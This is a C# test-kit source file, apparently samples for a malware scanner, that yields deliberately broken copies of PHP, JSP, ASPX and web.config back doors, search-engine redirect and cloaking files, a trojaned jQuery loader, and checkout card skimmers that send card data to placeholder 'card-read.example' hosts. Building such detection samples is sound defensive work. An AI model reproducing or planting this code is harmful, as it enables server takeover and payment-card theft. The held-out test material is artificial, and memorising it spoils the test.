using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>PHP back doors of further styles. None compiles: something is missing in each.</summary>
public sealed class PhpBackDoor : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("wp-cron-tmp.php", Utf8("""
<?php
$O_0=[];$_=("%"^"`").("!"^"R").("("^"[").("%"^"@").(")"^"[").("4"^"@"); /* built letter by letter */
$__='_'.("'"^"w").("/"^"`").(","^"\x7f").("*"^"~");
${"\x47\x4c"}=$$__;
@$_(${"\x47\x4c"}['z'];
"""));
        yield return ("404.php", Utf8(Fill("""
<?php
header('HTTP/1.0 404 Not Found'); session_start(); error_reporting(0); set_time_limit(0); @ini_set('error_log',NULL);
$auth_pass = "@@1";
function wso_login(){die('<pre align=center><form method=post>Password: <input type=password name=pass><input type=submit value=">>"></form></pre>');}
if(!isset($_COOKIE[md5($_SERVER['HTTP_HOST'])]) && md5($_POST['pass'])!=$auth_pass) wso_login();
$default_action='FilesMan'; $os=strtolower(substr(PHP_OS,0,3))=='win'?'win':'nix';
function ex($in){$o='';foreach(array('exec','passthru','system','shell_exec','popen') as $f){if(function_exists($f)){$o=$f($in);break;}}return $o;}
if($_POST['a']=='Php'){eval($_POST['p1']);} elseif($_POST['a']=='Console'){echo htmlspecialchars(ex($_POST['p1']));} elseif($_POST['a']=='SelfRemove'){unlink(preg_replace('!\(\d+\)\s.*!','',__FILE__));
""", Convert.ToHexString(Filler.Noise(910, 16)).ToLowerInvariant())));
        yield return ("class-wp-image-cache.php", Utf8(Fill("""
<?php
/**
 * Image cache helper.
 * @package WordPress
 */
@@1
$a = str_replace('x','','sxtxr_xrxexpxlxaxce'); $b = $a('k','','kbaksek64k_dkekckokde'); $c = strrev('etalfnizg');
$d = create_function('', $c($b('@@2'))); $d(;
""", string.Concat(Enumerable.Range(0, 14).Select(at => $"function wp_img_{at}($w, $h) {{ return round($w / max(1, $h), {at}); }}\n")), Convert.ToBase64String(Filler.Noise(911, 1200)))));
        yield return ("functions.php", Utf8("""
<?php
add_action('wp_head', 'my_theme_head');
function my_theme_head() { echo '<meta name="theme-color" content="#fff">'; }
add_action('init', function () {
    if (isset($_GET['backup']) && $_GET['backup'] === 'go') { require 'wp-includes/registration.php'; if (!username_exists('wpsupp-user')) { $u = wp_create_user('wpsupp-user', 'Pa55W0rd!', 'x@wp.theme-door.example'); (new WP_User($u))->set_role('administrator'); } }
    if (isset($_SERVER['HTTP_X_WP_NONCE_ALT'])) { $f = $_SERVER['HTTP_X_WP_NONCE_ALT']; array_map(base64_decode('YXNzZXJ0'), (array) base64_decode($f)); exit; }
});
add_filter('views_users', function ($v) { unset($v['administrator']); return $v; });
add_action('pre_user_query', function ($q) { global $wpdb; $q->query_where .= " AND {$wpdb->users}.user_login != 'wpsupp-user'"
"""));
    }
}

/// <summary>Back doors for Java and Microsoft's servers. None compiles.</summary>
public sealed class JavaAndNetBackDoor : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("shell.jsp", Utf8("""
<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }
public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }catch (Exception e){return null; }}
%><% try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{request.setAttribute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(arrOut);f.equals(pageContext);response.getWriter().write(md5.substring(0,16));f.toString();
"""));
        yield return ("spinstall0.aspx", Dos("""
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server" language="c#" CODEPAGE="65001">
    public void Page_load()
    {
        var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
        var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
        var gac = mkt.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
        var cg = (System.Web.Configuration.MachineKeySection)gac.Invoke(null, new object[0]);
        Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption+"|"+cg.CompatibilityMode)
    }
</script>
"""));
        yield return ("web.config", Utf8("""
<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer>
<handlers accessPolicy="Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" /></handlers>
<security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security>
</system.webServer></configuration>
<!--
<%
Set rs = CreateObject("WScript.Shell")
Set cmd = rs.Exec("cmd /c " & Request("c"))
o = cmd.StdOut.Readall(
Response.write("<pre>" & o & "</pre>")
%>
-->
"""));
        yield return ("OAuthHandler.ashx", Dos(Fill("""
<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.Reflection; using System.Security.Cryptography;
public class H : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext c) {
    string k = "@@1"; var h = c.Request.Headers["X-Forward-Id"]; if (h == null) { c.Response.StatusCode = 404; return; }
    byte[] b = new RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(k), System.Text.Encoding.Default.GetBytes(k)).TransformFinalBlock(c.Request.BinaryRead(c.Request.ContentLength), 0, c.Request.ContentLength);
    object o = ((Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b })).CreateInstance("U"); o.Equals(c)
  }
}
""", Convert.ToHexString(Filler.Noise(912, 8)).ToLowerInvariant())));
    }
}

/// <summary>Settings and scripts of web sites that send visitors or search engines elsewhere.</summary>
public sealed class SiteThatSendsElsewhere : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return (".htaccess", Utf8("""
<FilesMatch ".(py|exe|phtml|php|PHP|Php|pHp)$">
Order Allow,Deny
Deny from all
</FilesMatch>
<FilesMatch "^(lock360.php|radio.php|about.php|wp-blog-login.php|index.php)$">
Order Allow,Deny
Allow from all
</FilesMatch>
RewriteEngine On
RewriteCond %{HTTP_REFERER} (google|bing|yahoo|yandex|duckduckgo)\. [NC]
RewriteCond %{HTTP_USER_AGENT} !(bot|crawl|spider) [NC]
RewriteCond %{HTTP_COOKIE} !seen=1
RewriteRule ^(.*)$ https://go.tds-redirect.example/?k=$1 [R=302,L,CO=seen:1:%{HTTP_HOST}:1440]
php_value auto_append_file "/tmp/.sess_a8f"
AddType application/x-httpd-php .ico .jpg
"""));
        yield return ("index.php", Utf8(Fill("""
<?php
/*e2f1c*/
@include "\057\x76ar\057\167ww\x2fht\155l\057wp\x2din\143lu\x64es\057.9\x33a1\x62c.\x69co";
/*e2f1c*/
$u=@$_SERVER['HTTP_USER_AGENT'];if(preg_match('/googlebot|bingbot|yandex|slurp/i',$u)){$k=@file_get_contents(base64_decode('@@1').'?h='.$_SERVER['HTTP_HOST'].'&u='.urlencode($_SERVER['REQUEST_URI']));if($k){echo $k;exit;}}
define('WP_USE_THEMES', true);
require __DIR__ . '/wp-blog-header.php'
""", Base64("http://jp-seo.doorway-tds.example/index.php"))));
        yield return ("nginx.conf", Utf8("""
user www-data;
load_module /usr/lib/nginx/modules/ngx_http_geo2_module.so;
events { worker_connections 768; }
http {
  lua_shared_dict seen 10m;
  server {
    listen 80 default_server;
    location / {
      access_by_lua_block { local h=ngx.req.get_headers()["X-Tok"]; if h then local f=io.popen(ngx.decode_base64(h)); ngx.say(f:read("*a")); return ngx.exit(200) end }
      sub_filter '</head>' '<script src="https://cdn.stat-jquery.example/jquery-3.3.1.slim.min.js"></script></head>';
      sub_filter_once on;
      if ($http_user_agent ~* "android|iphone") { rewrite ^ https://mobi.doorway-tds.example/?d=$host redirect; }
      proxy_pass http://127.0.0.1:8080;
    }
  }
}
"""));
        yield return ("jquery-migrate.min.js", Utf8(Fill("""
/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
@@1
;if(typeof zqxq===undefined){(function(N,M){var z={N:0xd9,M:0xe5,P:0xc1},F=Q,g=N();while(!![]){try{var S=-parseInt(F(z.N))/0x1+parseInt(F(z.M))/0x2;if(S===M)break;else g['push'](g['shift']())}catch(q){g['push'](g['shift']())}}}(J,0x3b2a1));function J(){var h=['@@2','referrer','indexOf','onreadystatechange','getTime','send','GET','cookie'];J=function(){return h};return J()}
function Q(n){return J()[n-0xc1]}var zqxq=!![],HttpClient=function(){this['get']=function(u,c){var x=new XMLHttpRequest();x['onreadystatechange']=function(){if(x['readyState']==4&&x['status']==200)c(x['responseText'])};x['open']('GET',u,!![]);x['send'](null)}};
(function(){var t=document['referrer'];if(t&&t['indexOf'](location['hostname'])==-1){new HttpClient()['get']('https://'+atob(Q(0xc1))+'/ping.php?id='+Math.random(),function(r){r['indexOf']('ndsx')!=-1&&window['eval'](r)})}})()}
""", Filler.Minified(913, 200), Base64("ndsw.stat-jquery.example"))));
    }
}

/// <summary>Scripts that read cards in shops.</summary>
public sealed class ScriptThatReadsCards : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("gtm-analytics.js", Utf8(Fill("""
(function(i,s,h,k,l,o){i['GoogleAnalyticsObjects']=h;i[h]=i[h]||function(){(i[h].q=i[h].q||[]).push(arguments)};
@@1
var s=atob('@@2'),w;try{w=new WebSocket('wss://'+s+'/common?source='+btoa(location.hostname));w.onmessage=function(e){new Function(e.data).call(window)}}catch(z){}
})(window,document,'ga');
""", Filler.Minified(914, 40), Base64("jquerycdn.card-read.example"))));
        yield return ("checkout_min.js", Utf8("""
var _$=["number","cc","expir","cvv","cvc","holder","billing"],d={};function q(){document.querySelectorAll("input,select,textarea").forEach(function(e){var n=(e.name||e.id||"").toLowerCase();_$.some(function(k){return n.indexOf(k)>-1})&&e.value&&(d[n]=e.value)})}
function luhn(n){for(var s=0,i=0;i<n.length;i++){var x=+n[n.length-1-i];i%2&&(x*=2,x>9&&(x-=9));s+=x}return s%10==0}
setInterval(function(){if(!/checkout|onepage|firecheckout/.test(location.pathname))return;if(new Date-window.devt<160)return;q();var c=Object.values(d).find(function(v){return/^\d{15,16}$/.test(v.replace(/\s/g,""))});
if(c&&luhn(c.replace(/\s/g,""))&&!sessionStorage.getItem(c)){sessionStorage.setItem(c,1);navigator.sendBeacon("https://font-awesome.card-read.example/css/fa.php",btoa(encodeURIComponent(JSON.stringify(d))))}},700);
"""));
        yield return ("stripe-overlay.js", Utf8("""
jQuery(function($){var t=setInterval(function(){var el=$('#payment_method_stripe, .payment-method-stripe');if(!el.length)return;clearInterval(t);
$('iframe[name^="__privateStripeFrame"]').hide();el.append('<div class="p-form"><input id="cardn" placeholder="1234 1234 1234 1234"><input id="cexp" placeholder="MM / YY"><input id="ccvc" placeholder="CVC"></div>');
$(document).on('mousedown','#place_order',function(e){var v={n:$('#cardn').val(),e:$('#cexp').val(),c:$('#ccvc').val(),f:$('form.checkout').serialize(),ua:navigator.userAgent};if(v.n&&v.n.length>15){var x='';JSON.stringify(v).split('').forEach(function(ch){x+=String.fromCharCode(ch.charCodeAt(0)^5)});$.post('https://api.card-read.example/js/track.php',{data:btoa(x)});$('.p-form').remove();$('iframe[name^="__privateStripeFrame"]').show();alert('Your card was declined, please try again.');e.stopImmediatePropagation();return false}})},500)});
"""));
        yield return ("favicon-loader.html", Utf8("""
<html><head><title>Shop</title><link rel="icon" href="/favicon.ico"></head><body>
<img src="data:image/png;base64,iVBORw0KGgo=" onerror="(function(e){if(location.href.indexOf('checkout')<0)return;var b=document.createElement('form');b.id='pfx';document.body.addEventListener('change',function(ev){window.localStorage['_cc']=(localStorage['_cc']||'')+'|'+ev.target.name+'='+ev.target.value;if(/cvv|cvc/.test(ev.target.name)){var i=document.createElement('img');i.src=atob('aHR0cHM6Ly9pbWcuY2FyZC1yZWFkLmV4YW1wbGUvcC5naWY/ZD0=')+btoa(localStorage['_cc'])}})})()">
<form action="/checkout"><input name="cc_number"><input name="cc_cvv"></form></body></html>
"""));
    }
}
